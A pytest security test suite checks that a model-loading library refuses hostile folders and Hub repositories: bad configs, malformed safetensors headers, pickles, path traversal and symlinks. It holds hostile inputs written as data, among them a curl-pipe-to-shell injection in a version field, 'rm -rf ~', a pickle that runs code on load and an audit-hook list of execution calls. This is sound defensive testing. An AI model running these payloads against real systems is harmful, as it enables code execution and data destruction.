"""Folders and repositories of a stranger who means harm: clear errors, nothing run, nothing written elsewhere."""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import struct
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import torch
from huggingface_hub import HfApi, constants
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors.torch import save, save_file

from hf_adaptive_lr import (
    PLRS,
    ActorCritic,
    AutoController,
    Constant,
    Controller,
    Linear,
    MLRSNet,
    PPOSchedule,
    RandomWalk,
    Replay,
    Universal,
)
from hf_adaptive_lr.controllers import CONTROLLERS
from hf_adaptive_lr.hub import repo as on_hub
from hf_adaptive_lr.hub.config import contract, type_hints
from hf_adaptive_lr.hub.serialization import BUNDLED

from .controllers_for_tests import by_default

ID = "stranger/controller"
GOOD = Universal(hidden_size=4, params=Universal.random_params(hidden_size=4))
CONFIG, WEIGHTS = "config.json", "model.safetensors"
DOCUMENTED = (ValueError, OSError)

# --- what a process does, seen from outside ---------------------------------------------------------------------

_SEEN: list[tuple[str, tuple]] | None = None


def _hook(event: str, args: tuple) -> None:
    if _SEEN is not None:
        _SEEN.append((event, args))


sys.addaudithook(_hook)
CHANGES = {"os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.symlink", "os.link", "os.truncate", "os.chmod"}
RUNS = {
    "pickle.find_class",
    "exec",
    "compile",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.fork",
    "subprocess.Popen",
}


@contextlib.contextmanager
def _harmless(*allowed: Path) -> Iterator[None]:
    """Nothing is unpickled, compiled or started meanwhile, and nothing changes but in the `allowed` folders."""
    global _SEEN
    wrote_bytecode, sys.dont_write_bytecode = sys.dont_write_bytecode, True
    _SEEN = []
    try:
        yield
    finally:
        seen, _SEEN = _SEEN, None
        sys.dont_write_bytecode = wrote_bytecode
    touched: list[object] = []
    for event, args in seen:
        if event == "open" and isinstance(args[0], str) and args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            touched.append(args[0])
        elif event == "os.symlink":
            touched.append(args[1])
        elif event in ("os.remove", "os.rmdir") and args[1] != -1:
            pass  # within a folder that was opened: how a temporary folder of the cache is cleared
        elif event in CHANGES:
            touched += [arg for arg in args[:2] if isinstance(arg, str | bytes)]
        assert event not in RUNS, (event, args)
    for path in touched:
        where = Path(os.fsdecode(path)).absolute()
        assert any(where.is_relative_to(folder) for folder in allowed), f"{path} was touched"


def _warm() -> None:
    """Whatever is imported on first use is, so that the watch sees only what a file brings about."""
    AutoController.from_pretrained("ppo_schedule")
    for cls in CONTROLLERS.values():
        type_hints(cls)


def _refused(folder: Path | str, message: str, cls=AutoController, *allowed: Path) -> str:
    with _harmless(*allowed), pytest.raises(DOCUMENTED, match=message) as caught:
        cls.from_pretrained(folder)
    text = str(caught.value)
    assert text.isprintable(), text
    assert len(text) < 2000
    return text


# --- spoiled folders --------------------------------------------------------------------------------------------


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return Path.touch, (self.path,)


def _zip_pickle(bomb: Bomb) -> bytes:
    out = io.BytesIO()
    torch.save({"head_bias": torch.zeros(1), "x": bomb}, out)
    return out.getvalue()


def _edited(**changes) -> Callable[[Path], None]:
    def spoil(folder: Path) -> None:
        config = json.loads((folder / CONFIG).read_text())
        (folder / CONFIG).write_text(json.dumps({**config, **changes}))

    return spoil


def _config(data: bytes | str) -> Callable[[Path], None]:
    return lambda folder: (folder / CONFIG).write_bytes(data.encode() if isinstance(data, str) else data) and None


def _weights(data: bytes) -> Callable[[Path], None]:
    return lambda folder: (folder / WEIGHTS).write_bytes(data) and None


def _tensors(**changes) -> Callable[[Path], None]:
    return lambda folder: save_file({**GOOD.params, **changes}, folder / WEIGHTS)


def _header(header: object, data: bytes = b"") -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def _raw_config(extra: str) -> str:
    return (
        json.dumps({"controller_type": "linear", "format_version": 1, "library_version": "0.1.0"})[:-1] + extra + "}"
    )


ENTRY = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
BAD = "model.safetensors is not a safetensors file: .*"  # and then safetensors' own words
PICKLE = "is not a safetensors file: it is a pickle, and pickles are never loaded"
CASES: dict[str, tuple[Callable[[Path], object], str]] = {
    # The config names something else.
    "another class": (_edited(controller_type="linear", final_factor=0.0), "unknown key 'hidden_size'"),
    "class path": (_edited(controller_type="os.system"), "controller_type is 'os.system', expected one of"),
    "class path with a colon": (_edited(controller_type="evil:Controller"), "controller_type is 'evil:Controller'"),
    "file path as class": (_edited(controller_type="../../evil.py"), "controller_type is"),
    "list as class": (_edited(controller_type=["linear"]), r"controller_type is \['linear'\]"),
    "remote code": (_edited(auto_map={"AutoController": "evil.Evil"}), "unknown key 'auto_map'"),
    "unknown key": (_edited(trust_remote_code=True), "unknown key 'trust_remote_code'"),
    "params in the config": (_edited(params={}), "unknown key 'params'"),
    "provenance in the config": (_edited(provenance={"commit": "0"}), "unknown key 'provenance'"),
    "terminal codes": (_edited(**{"\x1b]0;evil\x07": 1}), "unknown key"),
    "half a character": (_edited(controller_type="\ud800"), "controller_type is"),
    "long name": (_edited(controller_type="x" * 10**5), "controller_type is"),
    # Sizes and numbers.
    "huge size": (_edited(hidden_size=10**9), r"hidden_size=1000000000 is outside \[1, 1024\]"),
    "size beyond 64 bits": (_edited(hidden_size=10**30), "too large for a whole number"),
    "size of many digits": (_config(_raw_config(', "hidden_size": ' + "9" * 5000)), "too large for a whole number"),
    "negative size": (_edited(hidden_size=-4), "hidden_size=-4 is outside"),
    "size as text": (_edited(hidden_size="4"), "'hidden_size' must be int"),
    "other size": (_edited(hidden_size=5), "shape"),
    "NaN": (_edited(max_move=float("nan")), "'NaN' is not a finite number"),
    "infinity": (_edited(max_move=float("inf")), "'Infinity' is not a finite number"),
    "float overflow": (_config(_raw_config(', "final_factor": 1e999')), "'1e999' is not a finite number"),
    "large bound": (_edited(max_move=1e9), "max_move=1000000000.0 is outside"),
    # Not such a config at all.
    "not JSON": (_config("import os"), "not valid JSON"),
    "empty": (_config(""), "not valid JSON"),
    "binary": (_config(bytes(range(256))), "not valid JSON"),
    "UTF-16": (_config("{}".encode("utf-16")), "not valid JSON"),
    "byte order mark": (_config(b"\xef\xbb\xbf{}"), "not valid JSON"),
    "list": (_config("[1, 2]"), "'controller_type' is missing"),
    "number": (_config("1"), "'controller_type' is missing"),
    "key twice": (_config(_raw_config(', "final_factor": 0, "final_factor": 1')), "'final_factor' stands there twice"),
    "deep": (_config(_raw_config(', "final_factor": ' + "[" * 200 + "]" * 200)), "nested more than 32 deep"),
    "very deep": (_config("[" * 400_000), "not valid JSON"),
    "large": (_config("[" + "1," * 600_000 + "1]"), "bytes, more than 1,000,000;"),
    "pickle as config": (_config(pickle.dumps({"controller_type": "linear"})), "not valid JSON"),
    "newer format": (_edited(format_version=2, library_version="7.1"), r"pip install 'hf_adaptive_lr>=7.1'"),
    "newer format, evil version": (
        _edited(format_version=2, library_version="1.0' && curl evil | sh; '"),
        r"newer than this library reads \(1\); pip install --upgrade hf_adaptive_lr$",
    ),
    "newer type": (
        _edited(controller_type="oracle", library_version="7.1"),
        "oracle.*pip install 'hf_adaptive_lr>=7.1'",
    ),
    "format zero": (_edited(format_version=0), "'format_version' must be a whole number"),
    "contract of another": (_edited(contract={"observation": ["loss"]}), "'contract' says observation is"),
    "contract with more": (
        _edited(contract={**contract(GOOD), "exec": "evil"}),
        "unknown key 'exec' in 'contract'",
    ),
    "contract that is none": (_edited(contract=[]), "'contract' must be an object"),
    # Weights.
    "NaN weights": (_tensors(head_bias=torch.tensor([float("nan")])), "tensor 'head_bias' holds NaN or infinite"),
    "infinite weights": (_tensors(bias_ih=torch.full((12,), -float("inf"))), "tensor 'bias_ih' holds NaN or infinite"),
    "infinite as float32": (_tensors(head_bias=torch.tensor([1e300], dtype=torch.float64)), "holds NaN or infinite"),
    "wrong shape": (_tensors(head_bias=torch.zeros(2)), r"tensor 'head_bias' has shape \(2,\), expected \(1,\)"),
    "unknown tensor": (_tensors(evil=torch.zeros(2)), "unknown tensor 'evil'"),
    "whole numbers": (
        _tensors(head_bias=torch.zeros(1, dtype=torch.int64)),
        "has dtype torch.int64",
    ),
    "complex numbers": (_tensors(head_bias=torch.zeros(1, dtype=torch.complex64)), "has dtype torch.complex64"),
    "missing weights": (lambda folder: (folder / WEIGHTS).unlink(), "is missing.*no model.safetensors in this folder"),
    "missing config": (lambda folder: (folder / CONFIG).unlink(), "has no config.json"),
    "no bytes": (_weights(b""), "is not a safetensors file: it is cut off"),
    "seven bytes": (_weights(b"\0" * 7), "is not a safetensors file: it is cut off"),
    "2 GB header": (
        _weights(struct.pack("<Q", 2 * 2**30) + b"{}" * 100),
        "of which a header of 2,147,483,648 is declared",
    ),
    "endless header": (_weights(b"\xff" * 8 + b"{}"), "is not a safetensors file"),
    "large header": (_weights(_header(b"{}" + b" " * 1_100_000)), "the header has 1,100,002 bytes"),
    "header is no JSON": (_weights(_header(b"{evil}")), BAD + "invalid JSON"),
    "header is deep": (_weights(_header(b"[" * 100_000)), BAD + "invalid JSON"),
    "header is a list": (_weights(_header([])), BAD + "invalid type: sequence"),
    "header is no bytes": (_weights(_header(b"")), BAD + "invalid JSON"),
    "metadata is code": (_weights(_header({"__metadata__": {"x": {"y": 1}}})), BAD + "invalid type: map"),
    "entry is a text": (_weights(_header({"head_bias": "F32"})), BAD + "invalid type: string"),
    "entry with more": (_weights(_header({"head_bias": {**ENTRY, "x": 1}}, b"\0" * 4)), "is missing"),
    "huge shape": (
        _weights(_header({"head_bias": {**ENTRY, "shape": [2**31, 2**31]}}, b"\0" * 4)),
        BAD + "overflow",
    ),
    "huge product": (
        _weights(_header({"head_bias": {"dtype": "F32", "shape": [10**7, 10**7], "data_offsets": [0, 4 * 10**14]}})),
        BAD + "incomplete",
    ),
    "negative shape": (
        _weights(_header({"head_bias": {**ENTRY, "shape": [-1]}}, b"\0" * 4)),
        BAD + "invalid value",
    ),
    "boolean shape": (
        _weights(_header({"head_bias": {**ENTRY, "shape": [True]}}, b"\0" * 4)),
        BAD + "invalid type",
    ),
    "offsets beyond the file": (
        _weights(_header({"head_bias": {**ENTRY, "data_offsets": [2**40, 2**40 + 4]}}, b"\0" * 4)),
        BAD + "invalid offset",
    ),
    "offsets turned round": (
        _weights(_header({"a": {**ENTRY, "data_offsets": [4, 0]}}, b"\0" * 4)),
        BAD + "invalid offset",
    ),
    "overlap": (_weights(_header({"a": ENTRY, "b": ENTRY}, b"\0" * 4)), BAD + "invalid offset"),
    "bytes to spare": (
        _weights(_header({"head_bias": ENTRY}, b"\0" * 400)),
        BAD + "incomplete",
    ),
    "cut off": (lambda f: (f / WEIGHTS).write_bytes((f / WEIGHTS).read_bytes()[:-4]), BAD + "incomplete"),
    "no weights of a huge size": (
        _weights(_header({"head_bias": {"dtype": "F32", "shape": [0, 2**63], "data_offsets": [0, 0]}})),
        BAD + "Overflow",
    ),
    "strides beyond 64 bits": (
        _weights(_header({"head_bias": {"dtype": "F32", "shape": [0, 2**40, 2**40], "data_offsets": [0, 0]}})),
        BAD + "overflow",
    ),
    "seventy dimensions": (
        _weights(_header({"head_bias": {"dtype": "F32", "shape": [1] * 70, "data_offsets": [0, 4]}}, b"\0" * 4)),
        "'head_bias' has 70 dimensions, more than 8",
    ),
    "seventy empty dimensions": (
        _weights(_header({"head_bias": {"dtype": "F32", "shape": [0] * 70, "data_offsets": [0, 0]}})),
        "'head_bias' has 70 dimensions, more than 8",
    ),
    "wrong shape, before any number is looked at": (
        _tensors(head_bias=torch.full((7,), torch.nan, dtype=torch.float16)),
        "'head_bias' has shape",
    ),
    "dtype that torch lacks": (
        _weights(_header({"head_bias": {"dtype": "F4", "shape": [0], "data_offsets": [0, 0]}})),
        BAD + "F4",
    ),
    "tensor twice": (_weights(_header(b'{"a": 1, "a": 2}')), BAD + "invalid type"),
    "text file": (_weights(b"#!/bin/sh\nrm -rf ~\n"), "is not a safetensors file"),
}


@pytest.fixture
def folder(tmp_path) -> Path:
    _warm()
    return GOOD.save_pretrained(tmp_path / "stranger")


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_folder_is_refused(case, folder) -> None:
    spoil, message = CASES[case]
    spoil(folder)
    _refused(folder, message)


ON_THE_HUB = [
    "another class",
    "class path",
    "remote code",
    "huge size",
    "not JSON",
    "unknown key",
    "NaN weights",
    "infinite weights",
    "wrong shape",
    "2 GB header",
    "text file",
    "contract of another",
]


def _upload(hub, folder: Path) -> None:
    for path in folder.iterdir():
        hub.put_file(ID, path.name, path.read_bytes())


def _cache() -> Path:
    return Path(constants.HF_HUB_CACHE)


@pytest.mark.parametrize("case", ON_THE_HUB)
def test_a_hostile_repository_is_refused(case, folder, hub) -> None:
    spoil, message = CASES[case]
    spoil(folder)
    _upload(hub, folder)
    on_hub.pull(ID)
    _refused(ID, message, AutoController, _cache())


@pytest.mark.parametrize("protocol", [*range(pickle.HIGHEST_PROTOCOL + 1), "zip"])
def test_a_pickle_in_place_of_safetensors(protocol, folder, hub, tmp_path) -> None:
    made = tmp_path / "made-by-the-pickle"
    bomb = Bomb(made)
    data = _zip_pickle(bomb) if protocol == "zip" else pickle.dumps(bomb, protocol)
    message = PICKLE if protocol == "zip" or protocol >= 2 else "is not a safetensors file"
    _weights(data)(folder)
    _refused(folder, message)
    _upload(hub, folder)
    on_hub.pull("stranger/controller")
    _refused(ID, message, AutoController, _cache())
    assert not made.exists()
    pickle.loads(pickle.dumps(bomb))
    assert made.exists()  # it would have


def test_pickles_and_code_beside_the_files_are_not_even_fetched(folder, hub, tmp_path) -> None:
    made = tmp_path / "made-by-the-pickle"
    (folder / "pytorch_model.bin").write_bytes(_zip_pickle(Bomb(made)))
    (folder / "controller.py").write_text(f"open({str(made)!r}, 'w')")
    with _harmless():
        assert AutoController.from_pretrained(folder) == GOOD
    _upload(hub, folder)
    loaded = AutoController.from_pretrained(ID)
    assert sorted(path.name for path in Path(loaded.provenance["folder"]).iterdir()) == [CONFIG, WEIGHTS]
    assert not any("pytorch_model" in call or "controller.py" in call for call in hub.calls)
    assert not made.exists()


def test_names_that_climb_out_of_the_folder(folder, hub, tmp_path) -> None:
    for name in (
        "../../escaped.txt",
        "../config.json",
        "a/../../../escaped.txt",
        "/tmp/escaped.txt",
        "..\\escaped.txt",
    ):
        hub.put_file(ID, name, b"evil")
    _upload(hub, folder)
    AutoController.from_pretrained("cosine")
    with _harmless(_cache()):
        assert AutoController.from_pretrained(ID) == GOOD
    assert not list(tmp_path.rglob("escaped.txt"))
    assert {path.name for path in tmp_path.iterdir()} <= {"stranger", "hub-cache", "hub-home"}


def test_a_commit_that_is_a_path_is_not_followed(folder, hub, monkeypatch) -> None:
    _upload(hub, folder)
    resolved = HfApi().resolve_revision(ID)
    monkeypatch.setattr(type(resolved), "resolved", "../../../escaped", raising=False)
    resolved.resolved = "../../../escaped"
    monkeypatch.setattr(HfApi, "resolve_revision", lambda *args, **kwargs: resolved)
    with pytest.raises(on_hub.HubError, match="which is not a commit"):
        AutoController.from_pretrained(ID)


def test_links_in_a_repository_are_only_text(folder, hub) -> None:
    """Git keeps a link as the path it points to, and that is what the Hub sends."""
    _upload(hub, folder)
    hub.put_file(ID, CONFIG, b"/etc/passwd")
    with pytest.raises(ValueError, match="not valid JSON"):
        AutoController.from_pretrained(ID)


def test_links_in_a_folder(folder, tmp_path) -> None:
    """They may point to a controller's files, as in the Hub's cache; to nothing else, and none is written through."""
    linked, kept = tmp_path / "linked", tmp_path / "kept"
    linked.mkdir()
    for name in (CONFIG, WEIGHTS):
        (linked / name).symlink_to(folder / name)
    assert AutoController.from_pretrained(linked) == GOOD
    before = (folder / CONFIG).read_bytes()
    (linked / f".{CONFIG}.{os.getpid()}.tmp").symlink_to(kept)
    Linear().save_pretrained(linked)
    assert (folder / CONFIG).read_bytes() == before
    assert (folder / WEIGHTS).exists()
    assert not kept.exists()
    assert sorted(p.name for p in linked.iterdir()) == [CONFIG]
    assert not (linked / CONFIG).is_symlink()


@pytest.mark.parametrize("name", [CONFIG, WEIGHTS])
@pytest.mark.parametrize("what", ["device", "loop", "nowhere", "folder", "pipe"])
def test_what_is_no_file_is_not_opened(what, name, folder) -> None:
    path = folder / name
    path.unlink()
    if what == "folder":
        path.mkdir()
    elif what == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to({"device": "/dev/zero", "loop": path, "nowhere": folder / "gone"}[what])
    _refused(folder, "has no config.json" if name == CONFIG else "is not a file")


def test_large_files_are_not_read(folder) -> None:
    with (folder / WEIGHTS).open("r+b") as file:
        file.truncate(3 * 2**30)  # sparse
    _refused(folder, "has 3,221,225,472 bytes, more than 100,000,000;")
    GOOD.save_pretrained(folder)
    with (folder / CONFIG).open("r+b") as file:
        file.truncate(3 * 2**30)
    _refused(folder, "bytes, more than 1,000,000;")


def test_large_files_are_not_fetched(folder, hub, monkeypatch) -> None:
    _upload(hub, folder)
    for name in (WEIGHTS, CONFIG):
        monkeypatch.setattr(on_hub, "_LIMITS", {**on_hub._LIMITS, CONFIG: 10**6, name: 10})
        with pytest.raises(ValueError, match=f"{name} has .* bytes, more than 10"):
            AutoController.from_pretrained(ID)
        assert not any(call.startswith("GET") and f"/{name}" in call for call in hub.calls)


@pytest.mark.parametrize("case", ["2 GB header", "huge size", "huge product", "huge shape"])
def test_nothing_is_set_aside_for_what_a_file_declares(case, folder) -> None:
    spoil, message = CASES[case]
    spoil(folder)
    tracemalloc.start()
    try:
        _refused(folder, message)
        assert tracemalloc.get_traced_memory()[1] < 5e6
    finally:
        tracemalloc.stop()


def test_a_class_without_limits_of_its_own(folder) -> None:
    """The weights that a config asks for must be in the file before there is room for them."""

    class Greedy(Controller):
        controller_type = "universal"

        def param_shapes(self):
            return {"weight": (10**9, 10**9)}

    type_hints(Greedy)
    config = {"controller_type": "universal", "format_version": 1, "library_version": "0.1.0"}
    _config(json.dumps(config))(folder)
    _weights(save({"weight": torch.zeros(2, 2)}))(folder)
    _refused(folder, r"shape \(2, 2\), expected \(1000000000, 1000000000\)", Greedy)


@pytest.mark.parametrize(
    ("controller", "field"),
    [
        (Constant(), "factor"),
        (ActorCritic(), "max_ratio"),
        (PLRS(), "high"),
        (MLRSNet(params=MLRSNet.random_params()), "gamma"),
        (MLRSNet(params=MLRSNet.random_params()), "initial_loss"),
        (RandomWalk(), "span"),
        (RandomWalk(), "step"),
        (PPOSchedule(params=PPOSchedule.random_params()), "std"),
        (Linear(), "final_factor"),
        (Replay(), "factors"),
    ],
)
def test_a_factor_bound_of_a_billion(controller, field, tmp_path, hub) -> None:
    controller.save_pretrained(tmp_path / "c")
    _edited(**{field: [1e9] if field == "factors" else 1e9})(tmp_path / "c")
    _refused(tmp_path / "c", r"1000000000.0 is outside \[")


def test_files_of_before_load() -> None:
    """The bundled ones have no contract; what is written now has one."""
    for name in ("mlr_snet", "ppo_schedule"):
        config = json.loads((BUNDLED / name / CONFIG).read_text())
        config.pop("contract", None)
        assert config["format_version"] == 1
        AutoController.from_pretrained(name)


def test_half_precision_comes_back_as_float32(folder) -> None:
    for dtype in (torch.float16, torch.bfloat16, torch.float64):
        GOOD.replace(params={k: v.to(dtype) for k, v in GOOD.params.items()}).save_pretrained(folder)
        loaded = AutoController.from_pretrained(folder)
        assert all(t.dtype == torch.float32 for t in loaded.params.values())
        assert all(torch.equal(t, GOOD.params[k].to(dtype).float()) for k, t in loaded.params.items())


# --- fuzz -------------------------------------------------------------------------------------------------------

FUZZ = settings(
    max_examples=600,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=list(HealthCheck),
)
_SAVED: dict[str, tuple[bytes, bytes]] = {}


def _saved(name: str, folder: Path) -> tuple[bytes, bytes]:
    """The two files of a small controller of this name."""
    if name not in _SAVED:
        _warm()
        controller = GOOD if name == "universal" else by_default(name)
        controller.save_pretrained(folder)
        weights = folder / WEIGHTS
        _SAVED[name] = (folder / CONFIG).read_bytes(), weights.read_bytes() if weights.exists() else b""
    return _SAVED[name]


def _survives(folder: Path, config: bytes, weights: bytes) -> None:
    """Either a documented error, or a controller that is as whole as any."""
    (folder / CONFIG).write_bytes(config)
    (folder / WEIGHTS).unlink(missing_ok=True)
    if weights:
        (folder / WEIGHTS).write_bytes(weights)
    try:
        with _harmless():
            loaded = AutoController.from_pretrained(folder)
    except DOCUMENTED as error:
        assert str(error).isprintable(), str(error)
        return
    assert all(bool(torch.isfinite(t).all()) for t in loaded.params.values())
    loaded.save_pretrained(folder)
    assert AutoController.from_pretrained(folder) == loaded


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(-(10**40), 10**40)
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(["train", "lstm", 0.5, 1, 1e9, 10**9, -1]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)
NUMBERS = st.floats() | st.integers(-3, 2000) | st.sampled_from([1e9, 10**9, 2**63, -(2**63) - 1, 1e-320, 0.5])
NAMES = st.sampled_from(sorted(CONTROLLERS))
TEXT = st.text('0123456789.,-+eE{}[]":tfn ', max_size=6).map(str.encode)  # what may still be JSON


@st.composite
def _damaged(draw, data: bytes) -> bytes:
    """Bytes overwritten, put in, or left out at a few places."""
    for _ in range(draw(st.integers(1, 4))):
        start = draw(st.integers(0, max(0, len(data) - 1)))
        length = draw(st.integers(0, 6))
        data = (
            data[:start]
            + draw(st.binary(max_size=6) if draw(st.integers(0, 19)) == 0 else TEXT)
            + data[start + length :]
        )
    return data


@FUZZ
@given(data=st.data(), name=NAMES)
def test_fuzzed_config_values(data, name, tmp_path_factory) -> None:
    folder = tmp_path_factory.getbasetemp() / "fuzz"
    folder.mkdir(exist_ok=True)
    config, weights = _saved(name, folder)
    fields = json.loads(config)
    described = fields.pop("contract")
    names = [key for key in fields if key not in ("controller_type", "format_version", "library_version")]
    for _ in range(data.draw(st.integers(1, 3))):
        key = data.draw(st.sampled_from([*names * 8, *fields, *described, "?"]))
        target = described if key in described else fields
        target[key] = data.draw(st.one_of(NUMBERS, NUMBERS, st.booleans(), JSON))
        if data.draw(st.integers(0, 19)) == 0:
            del target[key]
    if data.draw(st.booleans()):
        fields["contract"] = data.draw(st.just(described) | JSON)
    _survives(folder, json.dumps(fields).encode(), weights)


@FUZZ
@given(data=st.data(), name=NAMES)
def test_fuzzed_config_bytes(data, name, tmp_path_factory) -> None:
    folder = tmp_path_factory.getbasetemp() / "fuzz"
    folder.mkdir(exist_ok=True)
    config, weights = _saved(name, folder)
    _survives(folder, data.draw(_damaged(config)), weights)


@FUZZ
@given(data=st.data())
def test_fuzzed_header_values(data, tmp_path_factory) -> None:
    folder = tmp_path_factory.getbasetemp() / "fuzz"
    folder.mkdir(exist_ok=True)
    config, weights = _saved("universal", folder)
    length = struct.unpack("<Q", weights[:8])[0]
    header = json.loads(weights[8 : 8 + length])
    for _ in range(data.draw(st.integers(1, 2))):
        name = data.draw(st.sampled_from([*sorted(header), "?"]))
        entry = header.get(name)
        if isinstance(entry, dict) and data.draw(st.integers(0, 5)):
            key = data.draw(st.sampled_from(["dtype", "shape", "data_offsets"]))
            odd = (
                st.lists(st.integers(-2, 60) | st.integers(-2, 2**64), max_size=9)
                | st.sampled_from(["F8_E4M3", "F64", "BF16", "U8"])
                | JSON
            )
            entry[key] = data.draw(odd)
        else:
            header[name] = data.draw(JSON)
    _survives(folder, config, _header(header, weights[8 + length :]))


@FUZZ
@given(data=st.data())
def test_fuzzed_header_bytes(data, tmp_path_factory) -> None:
    folder = tmp_path_factory.getbasetemp() / "fuzz"
    folder.mkdir(exist_ok=True)
    config, weights = _saved("universal", folder)
    length = struct.unpack("<Q", weights[:8])[0]
    header, body = weights[8 : 8 + length], weights[8 + length :]
    if data.draw(st.integers(0, 3)):
        _survives(folder, config, _header(data.draw(_damaged(header)), body))
    else:
        _survives(folder, config, data.draw(_damaged(weights) | st.binary(min_size=1, max_size=64)))
